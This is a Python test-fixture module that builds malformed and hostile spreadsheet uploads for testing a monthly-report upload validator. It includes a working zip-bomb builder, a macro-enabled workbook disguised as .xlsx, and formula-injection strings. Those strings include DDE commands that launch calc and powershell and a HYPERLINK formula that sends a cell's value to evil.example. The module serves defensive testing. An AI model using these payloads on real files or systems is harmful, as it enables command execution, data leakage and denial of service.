"""Hostile and malformed uploads, generated in memory from a valid filled workbook.

Nothing binary is checked in. Every builder takes the valid report of the small unit for
2023-03 (``tests.monthly_kit.filled()``) and returns the bytes a user or an attacker could send;
builders that make a file from scratch ignore it. All results fit the upload size limit, so
each reaches the checks behind it.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

from openpyxl.workbook.workbook import Workbook

from tests.monthly_kit import edit, filled

SHEET = "xl/worksheets/sheet1.xml"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OTHER_UNIT = "岩寺镇"

# --- zip archives ---------------------------------------------------------------------


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def members_info(data: bytes) -> dict[str, zipfile.ZipInfo]:
    """The sizes each member declares, without reading any of it."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: info for info in archive.infolist()}


def rezip(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _replace(data: bytes, part: str, old: bytes, new: bytes) -> bytes:
    parts = members(data)
    assert old in parts[part], (part, old)
    parts[part] = parts[part].replace(old, new, 1)
    return rezip(parts)


def _raw_deflate(content: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(content) + compressor.flush()


def _raw_zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of already deflated members (name, deflated bytes, CRC-32, declared size).

    zipfile cannot store precompressed data; the bomb needs it to stay cheap to build, and a
    declared size is whatever the builder says it is.
    """
    out = io.BytesIO()
    central = io.BytesIO()
    for name, payload, crc, size in entries:
        encoded = name.encode()
        offset = out.tell()
        out.write(
            struct.pack("<4s2B4HL2L2H", b"PK\x03\x04", 20, 0, 0, 8, 0, 0x21, crc, len(payload), size, len(encoded), 0)
        )
        out.write(encoded + payload)
        central.write(
            struct.pack(
                "<4s4B4HL2L5H2L",
                *(b"PK\x01\x02", 20, 0, 20, 0, 0, 8, 0, 0x21, crc, len(payload), size, len(encoded), 0, 0, 0, 0, 0),
                offset,
            )
        )
        central.write(encoded)
    start = out.tell()
    out.write(central.getvalue())
    count = len(entries)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central.getvalue()), start, 0))
    return out.getvalue()


# --- OLE2 compound files (legacy .xls, encrypted workbooks) -----------------------------

_FREE, _END, _FAT, _NONE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_SECTOR = 512


def _dir_entry(
    name: str, kind: int, *, child: int = _NONE, right: int = _NONE, start: int = _END, size: int = 0
) -> bytes:
    encoded = (name + "\0").encode("utf-16-le") if name else b""
    return struct.pack(
        "<64sHBBIII16sIQQIQ", encoded, len(encoded), kind, 1, _NONE, right, child, b"", 0, 0, 0, start, size
    )


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE2 compound file (version 3, one FAT sector) holding ``streams`` at its root.

    Streams shorter than the 4096-byte mini-stream cutoff are padded to it, so every stream
    lives in ordinary sectors.
    """
    names = sorted(streams, key=lambda n: (len(n), n.upper()))  # the order OLE2 compares names in
    contents = [streams[n].ljust(4096, b"\0") for n in names]
    dir_sectors = -(-(len(names) + 1) * 128 // _SECTOR)
    fat = [_FAT] + [2 + i if i < dir_sectors - 1 else _END for i in range(dir_sectors)]
    starts: list[int] = []
    for content in contents:
        count = -(-len(content) // _SECTOR)
        first = len(fat)
        starts.append(first)
        fat += [first + i + 1 if i < count - 1 else _END for i in range(count)]
    assert len(fat) <= _SECTOR // 4, "one FAT sector is enough for these files"
    entries = [_dir_entry("Root Entry", 5, child=1 if names else _NONE)]
    for i, (name, content) in enumerate(zip(names, contents, strict=True)):
        right = i + 2 if i + 1 < len(names) else _NONE
        entries.append(_dir_entry(name, 2, right=right, start=starts[i], size=len(content)))
    directory = b"".join(entries).ljust(dir_sectors * _SECTOR, b"\0")
    header = struct.pack(
        "<8s16s5H6s9I109I",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"",
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"",
        0,
        1,
        1,
        0,
        4096,
        _END,
        0,
        _END,
        0,
        0,
        *([_FREE] * 108),
    )
    fat_sector = struct.pack(f"<{_SECTOR // 4}I", *(fat + [_FREE] * (_SECTOR // 4 - len(fat))))
    body = b"".join(c.ljust(-(-len(c) // _SECTOR) * _SECTOR, b"\0") for c in contents)
    return header + fat_sector + directory + body


_AGILE_INFO = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">'
    '<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" '
    'cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>'
    "</encryption>"
)


# --- the corpus ---------------------------------------------------------------------


def encrypted_workbook(_valid: bytes) -> bytes:
    """What Excel saves with a password to open: an OLE2 container, not a zip."""
    noise = random.Random(2023).randbytes(8192)
    return compound_file(
        {
            "EncryptionInfo": struct.pack("<HHI", 4, 4, 0x40) + _AGILE_INFO.encode(),
            "EncryptedPackage": struct.pack("<Q", 8192) + noise,
        }
    )


def legacy_xls(_valid: bytes) -> bytes:
    """A BIFF8 workbook (.xls, or WPS .et) renamed to .xlsx."""
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0)
    return compound_file({"Workbook": bof + struct.pack("<HH", 0x000A, 0)})


def csv_renamed(_valid: bytes) -> bytes:
    return "序号,主要任务,完成状态,完成进度\n53,推进项目,序时推进,60\n".encode("gb18030")


def zero_bytes(_valid: bytes) -> bytes:
    return b""


def truncated_zip(valid: bytes) -> bytes:
    return valid[: len(valid) * 2 // 3]


_BOMB_ROW = b'<row><c t="n"><v>1</v></c></row>'
_BOMB_CHUNK = _BOMB_ROW * (1024 * 1024 // len(_BOMB_ROW))
_BOMB_HEAD = f'<?xml version="1.0"?><worksheet xmlns="{MAIN_NS}"><sheetData>'.encode()
_BOMB_TAIL = b"</sheetData></worksheet>"


def _bomb(valid: bytes, total: int, declared: int | None = None) -> bytes:
    """The valid workbook with sheet1.xml replaced by ``total`` bytes of repeated rows.

    A full flush resets the compressor's history, so one compressed chunk can be repeated:
    under 3 MB in the file for each GB unpacked, built without ever holding the XML.
    ``declared`` lies about the unpacked size (the CRC is then that of the declared prefix).
    """
    repeat = (total - len(_BOMB_HEAD) - len(_BOMB_TAIL)) // len(_BOMB_CHUNK)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(_BOMB_HEAD) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(_BOMB_CHUNK) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.compress(_BOMB_TAIL) + compressor.flush()
    size = len(_BOMB_HEAD) + repeat * len(_BOMB_CHUNK) + len(_BOMB_TAIL)
    size = size if declared is None else declared
    crc = zlib.crc32(_BOMB_HEAD)
    left = size - len(_BOMB_HEAD)
    for _ in range(repeat):
        piece = _BOMB_CHUNK[:left]
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
        if not left:
            break
    if left:
        crc = zlib.crc32(_BOMB_TAIL[:left], crc)
    entries = []
    for name, content in members(valid).items():
        if name == SHEET:
            entries.append((name, head + block * repeat + tail, crc, size))
        else:
            entries.append((name, _raw_deflate(content), zlib.crc32(content), len(content)))
    return _raw_zip(entries)


def zip_bomb(valid: bytes) -> bytes:
    """About 1 GB of row XML in under 3 MB, sizes declared honestly."""
    return _bomb(valid, 1024**3)


def zip_bomb_understated(valid: bytes) -> bytes:
    """The same bomb declaring 15 MB (under the per-part cap): the reader must stop there."""
    return _bomb(valid, 1024**3, declared=15 * 1024 * 1024)


def _append_rows(valid: bytes, rows: bytes) -> bytes:
    return _replace(valid, SHEET, b"</sheetData>", rows + b"</sheetData>")


def far_corner_cell(valid: bytes) -> bytes:
    """A cell at XFD1048576 while the declared dimension still says A1:J10."""
    return _append_rows(valid, b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')


def million_rows(valid: bytes) -> bytes:
    """A million real rows after the table (empty row elements, as formatting leaves behind)."""
    rows = "".join(f'<row r="{r}"/>' for r in range(11, 1_000_001)).encode()
    return _append_rows(valid, rows)


def million_rows_declared(valid: bytes) -> bytes:
    return _replace(valid, SHEET, b'<dimension ref="A1:J10"/>', b'<dimension ref="A1:J1000000"/>')


def formula_cells(valid: bytes) -> bytes:
    def change(wb: Workbook) -> None:
        ws = wb["月报"]
        ws["D8"] = '=IF(E8>=100,"已完成","序时推进")'
        ws["E7"] = "=AVERAGE(E8:E10)"
        ws["F9"] = '=HYPERLINK("http://evil.example/","详见附件")'

    return edit(valid, change)


INJECTIONS = {
    "F7": '=HYPERLINK("http://evil.example/?leak="&C3,"详情")',
    "G8": "=cmd|' /C calc'!A0",
    "H9": "@SUM(1+1)*cmd|' /C calc'!A0",
    "I10": "+cmd|' /C powershell'!A0",
}


def injection_text(valid: bytes) -> bytes:
    """Formula-looking text stored as plain strings: harmless here, dangerous once exported."""

    def change(wb: Workbook) -> None:
        ws = wb["月报"]
        for coord, text in INJECTIONS.items():
            ws[coord].value = text
            ws[coord].data_type = "s"

    return edit(valid, change)


def xlsm_with_macros(valid: bytes) -> bytes:
    """A macro-enabled workbook saved with an .xlsx name: vbaProject.bin and its content type."""
    parts = members(valid)
    parts["xl/vbaProject.bin"] = compound_file({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'})
    parts["[Content_Types].xml"] = (
        parts["[Content_Types].xml"]
        .replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
        .replace(
            b"<Default ", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ', 1
        )
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        b'Target="vbaProject.bin" Id="rId99"/></Relationships>',
    )
    return rezip(parts)


def wrong_unit(_valid: bytes) -> bytes:
    """Another unit's report uploaded as the small unit's."""
    return filled(unit=OTHER_UNIT)


def wrong_month(_valid: bytes) -> bytes:
    """The April report uploaded for March."""
    return filled(period="2023-04")


def tampered_locked_columns(valid: bytes) -> bytes:
    """Protection removed, a task's text rewritten and the lead role (牵头) changed to 配合."""

    def change(wb: Workbook) -> None:
        ws = wb["月报"]
        ws.protection.sheet = False
        ws["B7"] = "本单位不承担此项任务"
        ws["C10"] = "配合"

    return edit(valid, change)
